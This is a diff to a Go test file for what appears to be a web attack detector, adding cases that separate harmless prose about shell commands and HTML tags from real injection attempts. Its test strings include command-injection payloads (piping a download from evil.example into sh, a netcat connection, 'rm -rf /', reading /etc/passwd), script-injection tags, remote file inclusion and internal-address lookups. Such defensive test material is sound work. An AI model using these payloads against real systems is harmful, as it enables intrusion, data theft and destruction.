@@ -135,8 +135,16 @@ func TestMarkdownProseLowersShellConfidence(t *testing.T) {
 			t.Errorf("markdown prose blocked: %+v", f)
 		}
 	}
-	// The same command chained, or substituted without prose around it, still blocks.
-	for _, body := range []string{`{"title":"x; ` + "`rm -rf /`" + `"}`, `{"title":"run ` + "`id`" + ` now | nc evil.example 4444 please"}`} {
+	// A fenced block with a language tag is code shown as code.
+	fence := post("/chat", jsonCT, `{"content":"`+"```bash\\ncurl -s https://api.example.com/v1/health | jq .status\\n```"+`"}`)
+	for _, f := range d.Inspect(fence, "svc") {
+		if (f.Class == "rce" || f.Class == "cmdi") && f.Confidence >= 85 {
+			t.Errorf("language fence blocked: %+v", f)
+		}
+	}
+	// The same command chained, or substituted without prose around it, or
+	// a fence without a language tag, still blocks.
+	for _, body := range []string{`{"title":"` + "```\\n; curl -s https://evil.example/x | sh\\n```" + `"}`, `{"title":"x; ` + "`rm -rf /`" + `"}`, `{"title":"run ` + "`id`" + ` now | nc evil.example 4444 please"}`} {
 		blocked := false
 		for _, f := range d.Inspect(post("/issues", jsonCT, body), "svc") {
 			blocked = blocked || (f.Class == "rce" || f.Class == "cmdi") && f.Confidence >= 85
@@ -240,5 +248,38 @@ func TestEvasionFamilyBoundaries(t *testing.T) {
 		{"rfi-remote-script", get("/page?inc=http://evil.example/shell.php?"), get("/page?ref=https://docs.example.com/guide.html")},
 		{"ssrf-internal-url", post("/hooks", jsonCT, `{"url":"http://app.lvh.me/admin"}`), post("/hooks", jsonCT, `{"url":"http://8.8.8.8.nip.io/"}`)},
 		{"ssrf-internal-url", post("/hooks", jsonCT, `{"url":"http://app-127-0-0-1.sslip.io/"}`), post("/hooks", jsonCT, `{"url":"https://api.example.com/v1"}`)},
+	})
+}
+
+func TestMarkupProseLowersXSSConfidence(t *testing.T) {
+	d := newDetector(t, Config{})
+	// A bare tag named in a sentence is text about HTML: below the block threshold.
+	prose := post("/chat", jsonCT, `{"content":"Explain what the <script> tag does in HTML to a beginner."}`)
+	for _, f := range d.Inspect(prose, "svc") {
+		if f.Class == "xss" && f.Confidence >= 85 {
+			t.Errorf("markup prose blocked: %+v", f)
+		}
+	}
+	// The closest attacks: code after the tag, an attribute, or no sentence around it.
+	for _, body := range []string{
+		`{"content":"Explain what the <script>alert(1)</script> tag does in HTML"}`,
+		`{"content":"Explain what the <script src=//evil.example/x.js> tag does in HTML"}`,
+		`{"content":"Explain what the <script>alert` + "`1`" + `</script> tag does in HTML"}`,
+		`{"content":"<script>"}`,
+	} {
+		blocked := false
+		for _, f := range d.Inspect(post("/chat", jsonCT, body), "svc") {
+			blocked = blocked || f.Class == "xss" && f.Confidence >= 85
+		}
+		if !blocked {
+			t.Errorf("not blocked: %s", body)
+		}
+	}
+}
+
+func TestSubstitutionBoundaries(t *testing.T) {
+	runBoundaries(t, []boundary{
+		{"cmdi-substitution", post("/p", jsonCT, `{"slug":"`+"`id`"+`"}`), post("/p", jsonCT, `{"slug":"%60rm--rf%60-in-the-cleanup-script"}`)},
+		{"cmdi-substitution", post("/p", jsonCT, `{"slug":"`+"`cat$IFS/etc/passwd`"+`"}`), post("/p", jsonCT, `{"slug":"`+"`cat-v`"+` is a dog"}`)},
 	})
 }
